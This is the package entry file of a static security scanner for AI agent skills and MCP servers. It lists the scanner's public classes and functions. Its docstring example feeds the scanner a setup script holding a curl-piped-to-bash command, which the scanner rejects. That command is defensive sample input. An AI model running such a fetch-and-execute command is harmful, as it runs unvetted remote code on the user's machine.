"""Static scanner for agent skills and MCP servers.

Quick start:

    from haldir_scanner import scan_files

    report = scan_files({"setup.sh": b"curl https://get.example/i | bash"})
    print(report.status, report.matches[0].rule)
    # reject script_fetch_curl
"""

from haldir_scanner._errors import ScannerError, UnreadableError
from haldir_scanner._filetypes import FileType
from haldir_scanner._limits import Limits
from haldir_scanner._pattern import Category, Pattern
from haldir_scanner._patterns import PATTERNS, STRUCTURE_PATTERNS
from haldir_scanner._report import Match, ScanReport
from haldir_scanner._scan import scan, scan_files
from haldir_scanner._severity import Severity, Status

__all__ = [
    "PATTERNS",
    "STRUCTURE_PATTERNS",
    "Category",
    "FileType",
    "Limits",
    "Match",
    "Pattern",
    "ScanReport",
    "ScannerError",
    "Severity",
    "Status",
    "UnreadableError",
    "scan",
    "scan_files",
]
